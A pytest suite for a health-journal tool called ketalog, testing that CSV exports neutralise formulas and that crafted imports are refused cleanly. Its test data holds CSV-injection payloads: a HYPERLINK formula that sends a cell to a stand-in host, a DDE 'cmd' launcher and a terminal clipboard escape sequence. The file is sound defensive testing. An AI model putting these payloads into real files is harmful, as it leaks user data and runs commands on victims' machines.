"""Crafted export files and spreadsheets: no formula runs, no crash, nothing written."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from helpers import digest, run, run_process
from ketalog.csvcells import protect, unprotect

FORMULAS = [
    '=HYPERLINK("http://example.invalid/?d="&B2,"x")',
    "+cmd|'/c calc'!A1",
    "@SUM(A1:A9)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "'",
    "''two",
]


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_protect_and_unprotect_are_exact_inverses() -> None:
    for text in [*FORMULAS, "plain", "", "a=b", "5", "-"]:
        assert unprotect(str(protect(text))) == text
    assert protect(-2.5) == -2.5 and protect(-3) == -3


def test_csv_export_writes_no_live_formula(tmp_path: Path) -> None:
    for n, note in enumerate(FORMULAS):
        day = f"2026-11-{n + 1:02d}"
        assert run("log", "--date", day, "--fatigue", "3", "--note", note).code == 0
        r = run("session", "add", "--date", day, "--route", "iv", "--clinic", note, "--note", note)
        assert r.code == 0, r.err
    for table in ("checkins", "sessions"):
        rows = csv_rows(run("export", "--format", "csv", "--table", table).out)
        assert len(rows) == len(FORMULAS)
        for row in rows:
            for key, cell in row.items():
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (key, cell)
        notes = sorted(row["note"] for row in rows)
        assert notes == sorted("'" + n for n in FORMULAS)


def test_numbers_are_written_as_numbers(tmp_path: Path) -> None:
    assert run("session", "add", "--date", "2026-11-20", "--route", "iv", "--dose", "35").code == 0
    r = run("log", "--date", "2026-11-21", "--fatigue", "3", "--sleep-hours", "5.5")
    assert r.code == 0
    [row] = csv_rows(run("export", "--format", "csv").out)
    assert (row["fatigue"], row["sleep_hours"], row["days_since_session"]) == ("3", "5.5", "1")
    assert row["session_dose_mg"] == "35.0"


def round_trip(tmp_path: Path) -> None:
    """Export both CSV files, import them into a new journal, export again: the same."""
    other = tmp_path / "other.db"
    first = {}
    for table in ("sessions", "checkins"):
        exported = tmp_path / f"{table}.csv"
        assert run("export", "--format", "csv", "--table", table, "-o", str(exported)).code == 0
        first[table] = exported.read_bytes()
        r = run("--db", str(other), "import", str(exported))
        assert r.code == 0, r.err
    for table in ("sessions", "checkins"):
        again = tmp_path / f"{table}-again.csv"
        r = run("--db", str(other), "export", "-f", "csv", "--table", table, "-o", str(again))
        assert r.code == 0
        assert again.read_bytes() == first[table]


def test_csv_round_trip_is_exact(tmp_path: Path) -> None:
    for n, note in enumerate([*FORMULAS, "plain", "line\nbreak", "cr\r\nlf", '"quoted", comma']):
        day = f"2026-11-{n + 1:02d}"
        assert run("log", "--date", day, "--fatigue", "3", "--note", note).code == 0
        assert run("session", "add", "--date", day, "--route", "oral", "--note", note).code == 0
    round_trip(tmp_path)
    history = run("--db", str(tmp_path / "other.db"), "history", "--json").out
    notes = {c["note"] for c in json.loads(history)}
    assert {"'=already quoted", "-2+3", "''two", "\r=1+1", "cr\r\nlf"} <= notes


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(note=st.text(min_size=1, max_size=40).filter(lambda s: s.strip() != ""))
@example(note="a\x00b")  # Python 3.10's csv module refuses NUL; ketalog carries it through
@example(note="=\x00")
def test_any_note_survives_csv_export_and_import(tmp_path_factory: Any, note: str) -> None:
    folder = tmp_path_factory.mktemp("csv")
    source, target = folder / "a.db", folder / "b.db"
    r = run("--db", str(source), "log", "--date", "2026-11-20", "--fatigue", "4", "--note", note)
    assert r.code == 0, r.err
    exported = folder / "a.csv"
    assert run("--db", str(source), "export", "--format", "csv", "-o", str(exported)).code == 0
    assert run("--db", str(target), "import", str(exported)).code == 0
    [row] = json.loads(run("--db", str(target), "history", "--json").out)
    assert row["note"] == note


def test_a_one_megabyte_note_round_trips_through_csv(tmp_path: Path) -> None:
    note = "tired, " * 150_000  # about 1 MB
    assert run("log", "--date", "2026-11-20", "--fatigue", "4", "--note", note).code == 0
    round_trip(tmp_path)
    [row] = json.loads(run("--db", str(tmp_path / "other.db"), "history", "--json").out)
    assert row["note"] == note


def export_with(**changes: Any) -> dict[str, Any]:
    data: dict[str, Any] = {
        "format": "ketalog-export",
        "format_version": 1,
        "schema_version": 1,
        "exported_at": "2026-11-25T09:00:00+00:00",
        "sessions": [],
        "assessments": [],
        "checkins": [
            {
                "uid": "a1",
                "day": "2026-11-20",
                "fatigue": 4,
                "note": "ok",
                "created_at": "2026-11-20T09:00:00+00:00",
                "updated_at": "2026-11-20T09:00:00+00:00",
            }
        ],
    }
    data.update(changes)
    return data


ASSESSMENT = {
    "uid": "q1",
    "day": "2026-11-20",
    "answers": [0] * 9,
    "created_at": "2026-11-20T09:00:00+00:00",
    "updated_at": "2026-11-20T09:00:00+00:00",
}


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (
            '{"format": "ketalog-export", "format_version": 1, "n": ' + "9" * 5000 + "}",
            "number too long",
        ),
        ("{" + '"a": ' + "[" * 100_000 + "]" * 100_000 + "}", "nested too deeply"),
        (
            json.dumps(export_with(schema_version="abc")),
            "schema_version 'abc' is not a whole number",
        ),
        (json.dumps(export_with(schema_version=[1])), "schema_version [1] is not a whole number"),
        (
            json.dumps(export_with(schema_version=7)).replace(": 7,", ": 1e400,"),
            "schema_version inf is not a whole number",
        ),
        (
            json.dumps(export_with(assessments=[{**ASSESSMENT, "instrument": ["phq9"]}])),
            "instrument ['phq9'] is not phq9 or gad7",
        ),
        (
            json.dumps(export_with(assessments=[{**ASSESSMENT, "instrument": {"a": 1}}])),
            "is not phq9 or gad7",
        ),
        (
            json.dumps(export_with()).replace('"note": "ok"', '"note": "\\ud800"'),
            "note holds a lone surrogate",
        ),
        ("uid,day,fatigue\n\x00a,2026-11-20,4\n", "uid"),
    ],
)
def test_crafted_imports_are_refused_in_one_line(tmp_path: Path, content: str, said: str) -> None:
    assert run("log", "--date", "2026-11-01", "--fatigue", "2").code == 0
    journal = tmp_path / "journal.db"
    before = digest(journal)
    bad = tmp_path / "bad.json"
    bad.write_text(content, encoding="utf-8")
    r = run_process("import", str(bad))
    assert r.code == 1, r.err
    assert said in r.err
    assert len(r.err.strip().splitlines()) == 1 and len(r.err) < 400
    assert "nothing was imported" in r.err and "unexpected" not in r.err
    assert digest(journal) == before


def test_json_control_characters_in_a_note_import_exactly(tmp_path: Path) -> None:
    note = "\x1b]52;c;eA==\x07 \x9b \u202e \U000e0001"
    bad = tmp_path / "in.json"
    bad.write_text(json.dumps(export_with()).replace('"note": "ok"', f'"note": {json.dumps(note)}'))
    assert run("import", str(bad)).code == 0
    [row] = json.loads(run("history", "--json").out)
    assert row["note"] == note


@pytest.mark.parametrize("command", ["edit", "delete"])
@pytest.mark.parametrize("value", ["99999999999999999999", "9223372036854775808", "0", "-3"])
def test_huge_or_impossible_ids_are_usage_errors(command: str, value: str) -> None:
    assert run("session", "add", "--route", "iv").code == 0
    extra = ["--dose", "3"] if command == "edit" else ["--yes"]
    r = run_process("session", command, *extra, "--", value)
    assert r.code == 2, r.err
    assert f"{value} is not a session ID" in r.err
    assert "unexpected" not in r.err


# Python 3.11's datetime.fromisoformat takes far more than 3.10's (20261101T090000,
# 2026-W48-3, any fraction, a trailing Z): the same file must be taken, or refused,
# by ketalog on every Python.
@pytest.mark.parametrize(
    ("stamp", "taken"),
    [
        ("2026-11-20T09:00:00+00:00", True),
        ("2026-11-20T09:00:00.123456+00:00", True),
        ("2026-11-20T09:00:00.123-05:00", True),
        ("2026-11-20T09:00:00Z", True),
        ("2026-11-20 09:00", True),
        ("2026-11-20T09:00:00", True),
        ("20261120T090000", False),
        ("2026-W47-5", False),
        ("2026-11-20T09", False),
        ("2026-11-20T09:00:00.5+00:00", False),
        ("2026-11-20T09:00:00,123+00:00", False),
        ("2026-11-20", False),
    ],
)
def test_timestamps_are_read_alike_on_every_python(tmp_path: Path, stamp: str, taken: bool) -> None:
    data = export_with()
    data["checkins"][0]["updated_at"] = stamp
    file = tmp_path / "in.json"
    file.write_text(json.dumps(data))
    r = run("import", str(file))
    if taken:
        assert r.code == 0, r.err
    else:
        assert r.code == 1 and f"updated_at {stamp!r} is not an ISO timestamp" in r.err, r.err
